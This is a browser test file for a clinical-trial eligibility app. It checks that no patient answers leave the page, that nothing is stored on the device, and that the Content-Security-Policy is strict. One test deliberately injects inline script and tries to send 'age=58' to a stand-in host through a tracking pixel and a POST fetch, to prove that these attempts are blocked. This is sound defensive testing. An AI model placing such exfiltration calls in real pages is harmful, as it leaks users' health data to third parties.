// Privacy by construction: after the app has loaded, no request at all, nothing sent to another
// origin, nothing stored on the device, and a Content-Security-Policy that blocks injected code.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  useBrowser, withContext, withPage, openApp, journey, seeResult, clickSwitch, recordRequests, radioSelector,
  assertNoPageErrors, todayISO, ORIGIN, BASE_URL, T, ELIGIBLE,
} from './helpers.mjs';

// Distinctive answers: if any of these left the page, a request would carry them.
const PERSON = Object.freeze({
  ...ELIGIBLE,
  age: 58,
  first_line_months: 23,
  recent_surgery: 'yes',
  surgery_days_ago: { date: todayISO(-45) },
});
const DISTINCTIVE = ['58', '23', '45', todayISO(-45)];

/** The files a first load may fetch: the page, its stylesheet, script and wasm, the trial. */
function isAppAsset(url) {
  const u = new URL(url);
  if (u.origin !== ORIGIN || u.search || u.hash) return false;
  const path = u.pathname.slice(new URL(BASE_URL).pathname.length - 1);
  return /^\/(index\.html)?$|^\/[\w.-]+\.(css|js|wasm)$|^\/favicon-\w+\.svg$|^\/trials\/interact\.(en|it)\.trial$|^\/i18n\/(en|it)\.txt$/.test(path);
}

describe('privacy', () => {
  const getBrowser = useBrowser();

  test('no request after the first load but the other language\'s definition, through a whole journey, a saved link and the clinician form', withContext(getBrowser, { locale: 'en-US', permissions: ['clipboard-read', 'clipboard-write'] }, async (context) => {
    const recorder = recordRequests(context);
    const sockets = [];
    context.on('page', (p) => p.on('websocket', (ws) => sockets.push(ws.url())));
    const page = await openApp(context);
    page.on('websocket', (ws) => sockets.push(ws.url()));
    await page.waitForLoadState('networkidle');
    recorder.mark('after load');

    // The whole patient journey, to the result.
    await journey(page, PERSON);
    assert.equal(await seeResult(page), T.en.verdict_likely);
    // Save a link, and copy it.
    await page.click(`section.save-link button:has-text("${T.en.save_link}")`);
    await page.click(`#save-link-panel button:has-text("${T.en.copy}")`);
    assert.match(await page.inputValue('#save-link-field'), /a\.age=58/);
    // The clinician form: a change, the live verdict, the referral summary copied.
    await clickSwitch(page, T.en.mode_clinician);
    await page.waitForSelector('.verdict-panel');
    await page.check(radioSelector('allergy', 'unsure'));
    await page.fill('#f-age', '59');
    await page.click(`.verdict-panel button:has-text("${T.en.copy_referral}")`);
    assert.match(await page.inputValue('#referral-text'), /59/);
    // And the language switch.
    await clickSwitch(page, 'Italiano');
    await page.waitForFunction(() => document.documentElement.lang === 'it');
    await page.waitForTimeout(1000); // anything sent late (a beacon, a timer) would show by now

    const initial = recorder.requests.filter((r) => r.phase === 'load');
    const later = recorder.requests.filter((r) => r.phase !== 'load');
    const show = (rs) => rs.map((r) => `${r.method} ${r.url} (${r.resourceType})`).join('\n  ');
    // After the first load, two requests only: the switch to Italian fetches the app's Italian
    // words and the trial's Italian file (src/load.rs), plain GETs of our own files, which carry
    // no answer (checked below).
    assert.deepEqual(
      later.map((r) => `${r.method} ${r.url}${r.postData ?? ''}`).sort(),
      [`GET ${new URL('i18n/it.txt', BASE_URL).href}`, `GET ${new URL('trials/interact.it.trial', BASE_URL).href}`],
      `no request after the first load but the Italian words and trial; got:\n  ${show(later)}`,
    );
    assert.deepEqual(sockets, [], 'no websocket');
    const foreign = recorder.requests.filter((r) => new URL(r.url).origin !== ORIGIN);
    assert.deepEqual(foreign.map((r) => r.url), [], 'nothing to another origin');
    const unexpected = initial.filter((r) => !isAppAsset(r.url) || r.method !== 'GET' || r.postData);
    assert.deepEqual(unexpected.map((r) => r.url), [], `the first load fetches only the app's files:\n  ${show(initial)}`);
    // No request after loading carries an answer: not in its path or query, its body, or a header
    // the page could set. Our own host (its port is random and may hold an answer's digits, "45")
    // and the browser's identification (version numbers) are left out of the search.
    for (const r of later) {
      const headers = Object.entries(r.headers).filter(([name]) => !/^(user-agent|sec-ch-ua.*)$/i.test(name));
      const sent = `${r.url}\n${JSON.stringify(headers)}\n${r.postData ?? ''}`.replaceAll(new URL(ORIGIN).host, '');
      for (const value of DISTINCTIVE) assert.ok(!sent.includes(value), `"${value}" was sent: ${r.url}`);
    }
    const kinds = new Set(initial.map((r) => new URL(r.url).pathname.split('.').pop()));
    for (const kind of ['css', 'js', 'wasm', 'trial', 'txt']) assert.ok(kinds.has(kind), `the first load fetched a .${kind}`);

    // Nothing stored on the device.
    const stored = await page.evaluate(async () => ({
      cookie: document.cookie,
      localStorage: localStorage.length,
      sessionStorage: sessionStorage.length,
      indexedDB: (await indexedDB.databases()).map((d) => d.name),
      caches: 'caches' in window ? await caches.keys() : [],
      serviceWorkers: navigator.serviceWorker ? (await navigator.serviceWorker.getRegistrations()).length : 0,
    }));
    assert.deepEqual(stored, { cookie: '', localStorage: 0, sessionStorage: 0, indexedDB: [], caches: [], serviceWorkers: 0 });
    const state = await context.storageState();
    assert.deepEqual(state.cookies, [], 'no cookie, not even an HttpOnly one');
    assert.deepEqual(state.origins, [], 'no local storage for any origin');
    assertNoPageErrors(page);
  }));

  test('the Content-Security-Policy is in the page and allows no inline code but the loader', withPage(getBrowser, {}, async (page) => {
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    assert.ok(csp, 'a CSP meta element');
    const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
    assert.deepEqual(directives['default-src'], ["'none'"]);
    assert.deepEqual(directives['connect-src'], ["'self'"]);
    assert.deepEqual(directives['base-uri'], ["'none'"]);
    assert.deepEqual(directives['form-action'], ["'none'"]);
    const scripts = directives['script-src'];
    assert.ok(scripts.includes("'self'"));
    assert.ok(!scripts.includes("'unsafe-inline'") && !scripts.includes("'unsafe-eval'"), `script-src: ${scripts}`);
    assert.ok(scripts.some((s) => /^'sha256-[A-Za-z0-9+/]+=*'$/.test(s)), 'the loader is allowed by its hash');
    assert.ok(!csp.includes('__INLINE_SCRIPT_HASHES__'), 'the build filled in the hash');
    assert.equal(await page.getAttribute('meta[name="referrer"]', 'content'), 'no-referrer');
  }));

  test('injected inline script, and attempts to reach another origin, are blocked', withContext(getBrowser, {}, async (context) => {
    const recorder = recordRequests(context);
    const page = await openApp(context);
    await page.waitForLoadState('networkidle');
    recorder.mark('injected');
    const outcome = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true;';
      document.body.append(script);
      const handler = document.createElement('div');
      handler.setAttribute('onclick', 'window.__handler = true');
      document.body.append(handler);
      handler.click();
      const image = document.createElement('img');
      image.src = 'http://example.invalid/pixel.png?age=58';
      document.body.append(image);
      let fetched = 'sent';
      try {
        await fetch('http://example.invalid/collect?age=58', { method: 'POST', body: 'age=58' });
      } catch (e) {
        fetched = e.name;
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { injected: window.__injected === true, handler: window.__handler === true, fetched, violations };
    });
    assert.equal(outcome.injected, false, 'the injected inline script did not run');
    assert.equal(outcome.handler, false, 'the injected inline handler did not run');
    assert.equal(outcome.fetched, 'TypeError', 'the fetch to another origin failed');
    for (const directive of ['script-src-elem', 'script-src-attr', 'img-src', 'connect-src']) {
      assert.ok(outcome.violations.includes(directive), `a ${directive} violation was reported: ${outcome.violations}`);
    }
    // Chromium reports the attempts, stopped by the policy before reaching the network.
    const attempts = recorder.requests.filter((r) => r.phase === 'injected');
    const sent = attempts.filter((r) => !['csp', 'net::ERR_BLOCKED_BY_CSP'].includes(r.failure));
    assert.deepEqual(sent.map((r) => `${r.url} (${r.failure ?? 'sent'})`), [], 'nothing left the page');
  }));
});
